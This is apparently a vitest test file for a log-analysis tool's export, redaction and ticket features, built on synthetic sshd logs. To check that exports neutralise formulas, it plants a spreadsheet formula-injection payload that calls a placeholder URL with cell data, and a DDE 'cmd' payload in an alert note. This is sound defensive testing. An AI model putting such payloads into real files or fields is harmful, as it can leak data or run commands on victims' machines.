// Export through EngineApi as the worker runs it (fake-indexeddb): the Blob holds exactly the query's events,
// progress is reported, a cancel stops it, and the provenance names the query, zone and source files with
// the ledger's SHA-256.
import 'fake-indexeddb/auto';
import { describe, expect, it } from 'vitest';
import { createHash } from 'node:crypto';
import Papa from 'papaparse';
import { createEngine } from '../../../src/workers/engine.ts';
import type { ExportProgress } from '../../../src/workers/api.ts';
import { isLiveFormula } from '../../../src/workers/export/neutralise.ts';
import { LOGDROP_VERSION } from '../../../src/workers/export/provenance.ts';

/** n sshd lines, one in 4 a failure from a hostile "user" that starts like a formula */
function authLog(n: number): string {
  const lines: string[] = [];
  for (let i = 0; i < n; i++) {
    const t = new Date(Date.UTC(2026, 0, 5, 8) + i * 1000).toISOString().slice(11, 19);
    lines.push(i % 4 === 0
      ? `Jan  5 ${t} bastion sshd[${100 + i}]: Failed password for invalid user =HYPERLINK("http://x/?"&A1) from 198.51.100.${i % 200} port ${40000 + i} ssh2`
      : `Jan  5 ${t} bastion sshd[${100 + i}]: Accepted password for alice from 10.0.0.${i % 200} port ${40000 + i} ssh2`);
  }
  return lines.join('\n') + '\n';
}

async function engineWith(text: string) {
  const engine = createEngine();
  await engine.createCase('Export test: case/1');
  const file = new File([text], 'auth.log', { lastModified: Date.UTC(2026, 0, 6) });
  await engine.ingest([{ path: 'auth.log', file }], {}, () => {});
  await engine.detected(); // detection runs in the background
  return engine;
}

describe('EngineApi export', () => {
  it('exports the query\'s events as a CSV Blob with progress and provenance', async () => {
    const text = authLog(10_000);
    const engine = await engineWith(text);
    const q = await engine.query('outcome:failure');
    if (!q.ok) throw new Error(q.error.message);
    expect(q.handle.total).toBe(2500);
    const progress: ExportProgress[] = [];
    const r = await engine.export(q.handle.id, 'csv-analyst', { timeZone: 'Europe/Berlin', query: 'outcome:failure', runId: 7 }, (p) => progress.push(p));
    if (!r.ok) throw new Error(r.message);
    expect(r.rows).toBe(2500);
    expect(r.fileName).toMatch(/^Export-test-case-1-csv-analyst-\d{8}T\d{6}Z\.csv$/);
    const rows = Papa.parse<string[]>(await r.blob.text(), { skipEmptyLines: true, delimiter: ',' }).data;
    expect(rows.length).toBe(2501);
    expect(rows[1][0]).toBe('2026-01-05T09:00:00.000+01:00');
    expect(rows[1][6]).toBe('\'=HYPERLINK("http://x/?"&A1)');
    expect(rows.flat().some(isLiveFormula)).toBe(false);
    expect(progress.at(-1)).toEqual({ runId: 7, done: 2500, total: 2500 });
    const sha = createHash('sha256').update(text).digest('hex');
    expect(r.provenance).toMatchObject({
      logdrop: { version: LOGDROP_VERSION }, exporter: { id: 'csv-analyst', version: 1 }, case: 'Export test: case/1',
      query: 'outcome:failure', timeZone: 'Europe/Berlin', neutralised: true, rows: 2500,
      files: [{ path: 'auth.log', sha256: sha, size: text.length }],
    });
  });

  it('a cancel stops the export; a bad zone or index name is refused in words', async () => {
    const engine = await engineWith(authLog(30_000));
    const q = await engine.query('');
    if (!q.ok) throw new Error(q.error.message);
    let cancelled = false;
    const r = await engine.export(q.handle.id, 'ndjson', { runId: 3 }, (p) => {
      if (!cancelled && p.done > 0 && p.done < p.total) {
        cancelled = true;
        void engine.cancelExport(3);
      }
    });
    expect(cancelled).toBe(true);
    expect(r).toEqual({ ok: false, cancelled: true, message: 'The export was cancelled.' });
    expect(await engine.export(q.handle.id, 'csv', { timeZone: 'Mars/Olympus' })).toMatchObject({ ok: false, message: expect.stringContaining('unknown time zone') });
    expect(await engine.export(q.handle.id, 'es-bulk', { indexName: 'UPPER' })).toMatchObject({ ok: false, message: expect.stringContaining('lowercase') });
    expect(await engine.export(q.handle.id, 'nope', {})).toMatchObject({ ok: false });
    expect(await engine.export(9999, 'csv', {})).toMatchObject({ ok: false, message: expect.stringContaining('search again') });
    expect((await engine.exporters()).map((e) => e.id)).toEqual(['csv', 'csv-analyst', 'csv-all', 'timesketch', 'csv-timeline-explorer', 'ndjson', 'ecs', 'es-bulk', 'es-template']);
  });
});

describe('EngineApi exportAlerts', () => {
  it('writes the listed alerts with type, severity, source IP, remediation, evidence and the analyst\'s status', async () => {
    const engine = await engineWith(authLog(4_000)); // 1,000 failures from 200 addresses in 67 minutes: brute force
    const list = await engine.alerts({});
    expect(list.alerts.length).toBeGreaterThan(0);
    const first = list.alerts[0];
    await engine.setAlertState(first.id, { status: 'acknowledged', note: '=cmd|\' /C calc\'!A0' });
    const json = await engine.exportAlerts('json', {}, { timeZone: 'Europe/Berlin' });
    if (!json.ok) throw new Error(json.message);
    expect(json.fileName).toMatch(/-alerts-\d{8}T\d{6}Z\.json$/);
    const doc = JSON.parse(await json.blob.text()) as { alerts: { id: string; alert_type: string; severity: string; source_ip: string; remediation: string; status: string; note: string; timestamp: string; evidence: { file: string; line: number }[] }[] };
    expect(doc.alerts).toHaveLength(list.alerts.length);
    const a = doc.alerts.find((x) => x.id === first.id)!;
    expect(a).toMatchObject({ alert_type: first.ruleName, severity: first.severity, status: 'acknowledged' });
    expect(a.timestamp).toMatch(/\+01:00$/);
    expect(a.remediation).not.toBe('');
    expect(a.evidence[0].file).toBe('auth.log');
    expect(a.evidence[0].line).toBeGreaterThan(0);
    const csv = await engine.exportAlerts('csv', { severities: [first.severity] }, {});
    if (!csv.ok) throw new Error(csv.message);
    const rows = Papa.parse<string[]>(await csv.blob.text(), { skipEmptyLines: true, delimiter: ',' }).data;
    expect(rows[0].slice(0, 6)).toEqual(['timestamp', 'severity', 'alert_type', 'rule_id', 'message', 'source_ip']);
    expect(rows.length - 1).toBe(csv.alerts);
    expect(rows.flat().some(isLiveFormula)).toBe(false);
    expect(rows.flat()).toContain('\'=cmd|\' /C calc\'!A0');
  });
});

describe('EngineApi redaction', () => {
  it('the view and every export show the same pseudonyms; the case is unchanged; the mapping gives the originals', async () => {
    const engine = await engineWith(authLog(400));
    const q = await engine.query('outcome:failure');
    if (!q.ok) throw new Error(q.error.message);
    const before = await engine.page(q.handle.id, 0, 100);
    expect((await engine.setRedaction({ on: true })).on).toBe(true);
    const page = await engine.page(q.handle.id, 0, 100);
    expect(page.length).toBe(100);
    for (const e of page) {
      expect(String(e.fields['init.host.ip'])).toMatch(/^10\.\d+\.\d+\.\d+$/);
      expect(String(e.fields.raw)).not.toMatch(/198\.51\.100\.|bastion/);
      expect(e.fields['obs.host.name']).toBe(page[0].fields['obs.host.name']);
    }
    expect(page[0].fields['obs.host.name']).toMatch(/^host-\d+$/);
    const detail = await engine.event(page[3].row);
    expect(detail?.fields).toEqual(page[3].fields);
    const facets = await engine.facets(q.handle.id, ['init.host.ip'], 5);
    expect(facets[0].values.every((v) => /^10\./.test(v.value))).toBe(true);

    // CSV (cell by cell) and NDJSON (whole events) carry exactly what the view shows, row for row
    const csv = await engine.export(q.handle.id, 'csv', { columns: ['init.host.ip', 'obs.host.name', 'message', 'raw'], neutralise: false });
    if (!csv.ok) throw new Error(csv.message);
    const rows = Papa.parse<string[]>(await csv.blob.text(), { skipEmptyLines: true, delimiter: ',' }).data.slice(1, 101);
    expect(rows).toEqual(page.map((e) => [e.fields['init.host.ip'], e.fields['obs.host.name'], e.fields.message, e.fields.raw].map(String)));
    const nd = await engine.export(q.handle.id, 'ndjson', {});
    if (!nd.ok) throw new Error(nd.message);
    const docs = (await nd.blob.text()).trim().split('\n').slice(0, 100).map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(docs.map((d) => d.raw)).toEqual(page.map((e) => e.fields.raw));
    expect(docs.map((d) => d['init.host.ip'])).toEqual(page.map((e) => e.fields['init.host.ip']));

    const map = await engine.redactionMapping();
    if (!map.ok) throw new Error(map.message);
    const table = Papa.parse<string[]>(await map.blob.text(), { skipEmptyLines: true, delimiter: ',' }).data;
    expect(table[0]).toEqual(['kind', 'pseudonym', 'original']);
    const original = new Map(table.slice(1).map(([, p, o]) => [p, o]));
    expect(page.map((e) => original.get(String(e.fields['init.host.ip'])))).toEqual(before.map((e) => e.fields['init.host.ip']));

    // off again: the stored case was never changed
    await engine.setRedaction({ on: false });
    expect(await engine.page(q.handle.id, 0, 100)).toEqual(before);
  });
});

describe('EngineApi tickets', () => {
  it('one ticket per listed alert, JSON and Markdown, with owner, status, source IP and evidence; redaction applies', async () => {
    const engine = await engineWith(authLog(4_000));
    const list = await engine.alerts({});
    expect(list.alerts.length).toBeGreaterThan(0);
    const first = list.alerts[0];
    await engine.setAlertState(first.id, { status: 'acknowledged', note: 'blocked at the edge' });
    const json = await engine.exportAlerts('tickets-json', {}, { owner: 'Dana (SOC)' });
    if (!json.ok) throw new Error(json.message);
    expect(json.fileName).toMatch(/-tickets-\d{8}T\d{6}Z\.json$/);
    type T = { id: string; severity: string; summary: string; source_ip: string; status: string; owner: string; analyst_note: string; evidence: { count: number; events: { file: string }[] } };
    const tickets = JSON.parse(await json.blob.text()) as T[];
    expect(tickets.map((t) => t.id)).toEqual(list.alerts.map((a) => a.id));
    const t = tickets.find((x) => x.id === first.id)!;
    expect(t).toMatchObject({ severity: first.severity, status: 'acknowledged', owner: 'Dana (SOC)', analyst_note: 'blocked at the edge' });
    expect(t.summary).toContain(first.ruleName);
    expect(t.evidence.count).toBe(first.count);
    expect(t.evidence.events[0].file).toBe('auth.log');
    const withIp = tickets.filter((x) => x.source_ip !== '');
    expect(withIp.length).toBeGreaterThan(0);

    const md = await engine.exportAlerts('tickets-md', {}, {});
    if (!md.ok) throw new Error(md.message);
    const text = await md.blob.text();
    expect(text.match(/^## \[/gm)?.length).toBe(list.alerts.length);
    expect(text).toContain('| Owner | unassigned |');
    expect(text).toContain(`| Source IP | \` ${withIp[0].source_ip} \` |`);

    await engine.setRedaction({ on: true });
    const red = await engine.exportAlerts('tickets-json', {}, {});
    if (!red.ok) throw new Error(red.message);
    const redText = await red.blob.text();
    expect(redText).not.toMatch(/198\.51\.100\.\d|bastion/);
    const redTickets = JSON.parse(redText) as T[];
    const shownAlerts = (await engine.alerts({})).alerts;
    expect(shownAlerts.length).toBe(list.alerts.length);
    expect(shownAlerts.filter((a) => /198\.51\.100\.\d|bastion/.test(a.message + JSON.stringify(a.group) + (a.host ?? '')))).toEqual([]);
    const dash = await engine.dashboard(10);
    expect(dash.sourceIps.values.every((v) => /^10\./.test(v.value))).toBe(true);
    expect(redTickets.filter((x) => x.source_ip !== '').every((x) => /^10\.\d+\.\d+\.\d+$/.test(x.source_ip))).toBe(true);
  });
});
